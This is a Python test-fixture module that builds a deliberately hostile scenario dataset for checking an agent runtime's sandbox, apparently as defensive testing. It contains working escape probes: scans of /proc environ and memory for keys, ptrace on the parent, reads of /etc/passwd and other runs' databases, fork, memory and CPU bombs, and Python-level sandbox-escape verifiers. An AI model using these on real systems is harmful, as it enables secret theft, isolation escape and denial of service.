"""A hostile AWM dataset: scenario code and verifiers that try every way out of their boundary.

Each probe tool of scenario `hostile` tries routes and answers, per route, whether it was
blocked and, when it was not, whether what it got holds the runtime's key. The verifiers of tasks
8 and up attack the Python-level layer. Scenario `victim` is an ordinary one whose files the
hostile code tries to reach.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from awm_runtime.worlds._pack import merge_rows, scenario_rows, write_dataset

KEY_MARK = "sk-hostile-"  # every fake key the tests set starts with this

HOSTILE_APP = f'''
import ctypes, os, socket, sqlite3, sys, threading
from fastapi import FastAPI, Query
from pydantic import BaseModel
from sqlalchemy import Column, Integer, String, create_engine
from sqlalchemy.orm import declarative_base, sessionmaker

engine = create_engine(os.getenv("DATABASE_PATH", "sqlite:///x.db"), connect_args={{"check_same_thread": False}})
SessionLocal = sessionmaker(bind=engine)
Base = declarative_base()
app = FastAPI(title="Hostile")
MARK = "{KEY_MARK}"


class Item(Base):
    __tablename__ = "items"
    id = Column(Integer, primary_key=True)
    name = Column(String, nullable=False)


class Count(BaseModel):
    count: int


def attempt(fn):
    try:
        value = fn()
    except BaseException as exc:
        return {{"blocked": True, "error": f"{{type(exc).__name__}}: {{exc}}"[:160]}}
    text = value if isinstance(value, str) else repr(value)
    return {{"blocked": False, "leaked_key": MARK in text, "got": text[:160]}}


def read(path, n=1 << 16):
    with open(path, "rb") as fh:
        return fh.read(n).decode(errors="replace")


def dirs():
    db = os.environ.get("DATABASE_PATH", "")[len("sqlite:///"):]
    scenario_dir = os.path.dirname(db)
    return scenario_dir, os.path.dirname(scenario_dir)


@app.post("/items", operation_id="add_item", summary="Add an item", response_model=Count)
async def add_item(name: str = Query(...)):
    s = SessionLocal()
    s.add(Item(name=name))
    s.commit()
    n = s.query(Item).count()
    s.close()
    return Count(count=n)


@app.get("/probe/secrets", operation_id="probe_secrets", summary="Look for the runtime's keys")
async def probe_secrets():
    ppid = os.getppid()
    out = {{"own_env_has_key": any(MARK in v for v in os.environ.values())}}
    readable = []
    for pid in range(max(1, ppid - 20000), ppid + 50):  # the runtime started before its world zygote
        try:
            text = read(f"/proc/{{pid}}/environ")
        except OSError:
            continue
        readable.append({{"pid": pid, "leaked_key": MARK in text}})
    out["environ_scan"] = {{"blocked": not readable, "readable": readable[:20]}}
    out["environ_ppid"] = attempt(lambda: read(f"/proc/{{ppid}}/environ"))
    out["environ_self"] = attempt(lambda: read("/proc/self/environ"))
    out["mem_ppid"] = attempt(lambda: read(f"/proc/{{ppid}}/mem", 64))
    libc = ctypes.CDLL(None, use_errno=True)

    def ptrace():
        if libc.ptrace(16, ppid, 0, 0) != 0:  # PTRACE_ATTACH
            raise OSError(ctypes.get_errno(), "ptrace")
        return "attached"

    out["ptrace_ppid"] = attempt(ptrace)
    out["signal_ppid"] = attempt(lambda: os.kill(ppid, 0) or "signalled")
    out["signal_group"] = attempt(lambda: os.kill(0, 0) or "signalled")
    return out


@app.get("/probe/network", operation_id="probe_network", summary="Reach the test's listeners")
async def probe_network(tcp_port: int = Query(...), udp_port: int = Query(...), unix_path: str = Query(...)):
    def tcp():
        s = socket.create_connection(("127.0.0.1", tcp_port), timeout=2)
        s.sendall(b"hostile")
        return "sent"

    def udp():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hostile", ("127.0.0.1", udp_port))
        return "sent"

    def unix():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(unix_path)
        s.sendall(b"hostile")
        return "sent"

    def http():
        import urllib.request
        return urllib.request.urlopen(f"http://127.0.0.1:{{tcp_port}}/", timeout=2).read()

    def ipv6():
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.connect(("::1", tcp_port))
        return "connected"

    return {{"tcp": attempt(tcp), "udp": attempt(udp), "unix": attempt(unix), "http": attempt(http),
            "ipv6": attempt(ipv6)}}


@app.get("/probe/files", operation_id="probe_files", summary="Read and write outside the episode")
async def probe_files(home_file: str = Query(...), other_run_db: str = Query(...), write_targets: str = Query(...)):
    scenario_dir, workdir = dirs()
    victim = os.path.join(workdir, "victim")
    out = {{
        "home_file": attempt(lambda: read(home_file)),
        "etc_passwd": attempt(lambda: read("/etc/passwd")),
        "victim_template": attempt(lambda: read(os.path.join(victim, "initial.db"))),
        "victim_episodes": attempt(lambda: os.listdir(os.path.join(victim, "episodes"))),
        "workdir_listing": attempt(lambda: os.listdir(workdir)),
        "other_run_db": attempt(lambda: read(other_run_db)),
        "attach_victim": attempt(lambda: sqlite3.connect(":memory:").execute(
            f"ATTACH '{{victim}}/initial.db' AS v").execute("SELECT name FROM v.items").fetchall()),
        "attach_other_run": attempt(lambda: sqlite3.connect(":memory:").execute(
            f"ATTACH '{{other_run_db}}' AS o").execute("SELECT * FROM o.secrets").fetchall()),
        "write_workdir": attempt(lambda: open(os.path.join(workdir, "hostile.txt"), "w").write("x")),
        "new_file_beside_episodes": attempt(
            lambda: open(os.path.join(scenario_dir, "episodes", "hostile.db"), "w").write("x")),
        "write_template": attempt(lambda: open(os.path.join(scenario_dir, "initial.db"), "r+b").write(b"x")),
    }}
    for i, target in enumerate(write_targets.split(",")):
        out[f"write_{{i}}"] = attempt(lambda t=target: open(t, "w").write("hostile"))
    return out


@app.get("/probe/processes", operation_id="probe_processes", summary="Start other programs")
async def probe_processes():
    import subprocess
    return {{"fork": attempt(lambda: os.fork()),
            "subprocess": attempt(lambda: subprocess.run(["id"], capture_output=True).stdout),
            "posix_spawn": attempt(lambda: os.posix_spawn("/bin/true", ["true"], {{}}))}}


@app.post("/bomb/memory", operation_id="memory_bomb", summary="Allocate until something gives")
async def memory_bomb():
    hog = []
    try:
        while True:
            hog.append(bytearray(64 << 20))
    except BaseException as exc:
        got = len(hog) * 64
        hog.clear()
        return {{"allocated_mib": got, "stopped_by": type(exc).__name__}}


@app.post("/bomb/fork", operation_id="fork_bomb", summary="Fork until something gives")
async def fork_bomb():
    forked = 0
    try:
        while True:
            if os.fork() == 0:
                os._exit(0)
            forked += 1
    except BaseException as exc:
        return {{"forked": forked, "stopped_by": type(exc).__name__}}


@app.post("/bomb/threads", operation_id="thread_bomb", summary="Start threads until something gives")
async def thread_bomb():
    # Every thread is held until the limit stops the bomb, so it reaches the limit however slowly threads start
    # (threads that lived a fixed time could end as fast as a loaded machine started them: the bomb then ran on
    # past the tool deadline). They are released and joined before the reply, so the next call has room.
    release = threading.Event()
    held = []
    stopped_by = None
    try:
        for _ in range(100000):
            thread = threading.Thread(target=release.wait, daemon=True)
            thread.start()
            held.append(thread)
    except BaseException as exc:
        stopped_by = type(exc).__name__
    release.set()
    for thread in held:
        thread.join()
    return {{"started": len(held), "stopped_by": stopped_by}}


@app.post("/bomb/cpu", operation_id="cpu_spin", summary="Spin forever")
async def cpu_spin():
    while True:
        pass
'''

VICTIM_APP = HOSTILE_APP.split("@app.get(\"/probe/secrets\"")[0].replace('title="Hostile"', 'title="Victim"')

COUNT_AT_LEAST_1 = '''def verify_task_completion(final_db_path):
    import sqlite3
    n = sqlite3.connect(final_db_path).execute("SELECT COUNT(*) FROM items").fetchone()[0]
    return {"result": "complete" if n >= 1 else "others"}
'''
# Verifiers that attack the Python-level layer (each must be refused), and two that meet the OS layer.
HOSTILE_VERIFIERS = {
    "match_class": '''def verify_task_completion(final_db_path):
    match ():
        case object(__class__=t):
            return {"result": "others", "escaped": str(t)}
    return {"result": "others"}
''',
    "super_authorizer": '''def verify_task_completion(final_db_path):
    import sqlite3
    c = sqlite3.connect(final_db_path)
    super(sqlite3.Connection, c).set_authorizer(None)
    return {"result": "others", "escaped": "authorizer removed"}
''',
    "format_walk": '''def verify_task_completion(final_db_path):
    return {"result": "others", "escaped": "{0.__globals__}".format(verify_task_completion)[:100]}
''',
    "generator_frame": '''def verify_task_completion(final_db_path):
    g = (x for x in [1])
    return {"result": "others", "escaped": str(g.gi_frame.f_back)}
''',
    "str_subclass": '''class S(str):
    def startswith(self, prefix, *args):
        return False
def verify_task_completion(final_db_path):
    return {"result": "others", "escaped": str(getattr((), S("__class__")))}
''',
    "userstring_format": '''def verify_task_completion(final_db_path):
    import collections
    return {"result": "others", "escaped": collections.UserString("{0.__globals__}").format(len)[:100]}
''',
    "victim_db": '''def verify_task_completion(final_db_path):
    import sqlite3
    found = {}
    # The final DB is the episode's (<workdir>/<scenario>/episodes/) or a snapshot of it (<workdir>/.templates/).
    for workdir in {final_db_path.rsplit("/", 3)[0], final_db_path.rsplit("/", 2)[0]}:
        for path in (workdir + "/victim/initial.db", workdir + "/.templates/victim.db",
                     workdir + "/hostile/initial.db.nope"):
            try:
                found[path] = sqlite3.connect(path).execute("SELECT name FROM items").fetchall()
            except Exception as exc:
                pass
    return {"result": "others" if found else "complete", "found": str(found)[:200]}
''',
    "memory_bomb": '''def verify_task_completion(final_db_path):
    hog = []
    while True:
        hog.append(bytearray(64 << 20))
''',
}

PROBES = ("probe_secrets", "probe_network", "probe_files", "probe_processes")
BOMBS = ("memory_bomb", "fork_bomb", "thread_bomb")
HOSTILE_TASKS = [*(f"Run {p}." for p in PROBES), *(f"Survive {b}." for b in BOMBS), "Spin the CPU.",
                 *(f"Verifier attack: {name}." for name in HOSTILE_VERIFIERS)]
VERIFIER_TASKS = {len(PROBES) + len(BOMBS) + 1 + i: name for i, name in enumerate(HOSTILE_VERIFIERS)}
CPU_TASK = len(PROBES) + len(BOMBS)


def write_hostile_dataset(out: Path, *, tcp_port: int, udp_port: int, unix_path: str, home_file: str,
                          other_run_db: str, write_targets: list[str]) -> Path:
    """The dataset plus `solutions.json`: the oracle policy calls each probe with the test's targets."""
    table = [{"name": "items", "ddl": "CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT NOT NULL)"}]
    verifiers = {i: COUNT_AT_LEAST_1 for i in range(len(HOSTILE_TASKS))}
    verifiers.update({i: HOSTILE_VERIFIERS[name] for i, name in VERIFIER_TASKS.items()})
    rows = merge_rows(
        scenario_rows("Hostile", HOSTILE_APP, tables=table, inserts={}, tasks=HOSTILE_TASKS, code_verifiers=verifiers),
        scenario_rows("Victim", VICTIM_APP, tables=table, inserts={"items": ["INSERT INTO items (name) VALUES "
                                                                            "('victim secret row')"]},
                      tasks=["Add an item.", "Add another item.", "Add a third item."],
                      code_verifiers={i: COUNT_AT_LEAST_1 for i in range(3)}),
    )
    write_dataset(out, rows)
    args: dict[str, dict[str, Any]] = {
        "probe_secrets": {}, "probe_processes": {},
        "probe_network": {"tcp_port": tcp_port, "udp_port": udp_port, "unix_path": unix_path},
        "probe_files": {"home_file": home_file, "other_run_db": other_run_db, "write_targets": ",".join(write_targets)},
    }
    add = {"tool": "add_item", "arguments": {"name": "x"}}
    solutions: list[dict[str, Any]] = []
    for i, probe in enumerate(PROBES):
        solutions.append({"scenario": "Hostile", "task_idx": i, "steps": [{"tool": probe, "arguments": args[probe]},
                                                                         add]})
    for i, bomb in enumerate(BOMBS, start=len(PROBES)):
        solutions.append({"scenario": "Hostile", "task_idx": i, "steps": [{"tool": bomb, "arguments": {}}, add]})
    solutions.append({"scenario": "Hostile", "task_idx": CPU_TASK, "steps": [{"tool": "cpu_spin", "arguments": {}}]})
    solutions += [{"scenario": "Hostile", "task_idx": i, "steps": [add]} for i in VERIFIER_TASKS]
    solutions += [{"scenario": "Victim", "task_idx": i, "steps": [add]} for i in range(3)]
    (out / "solutions.json").write_text(json.dumps(solutions), encoding="utf-8")
    return out
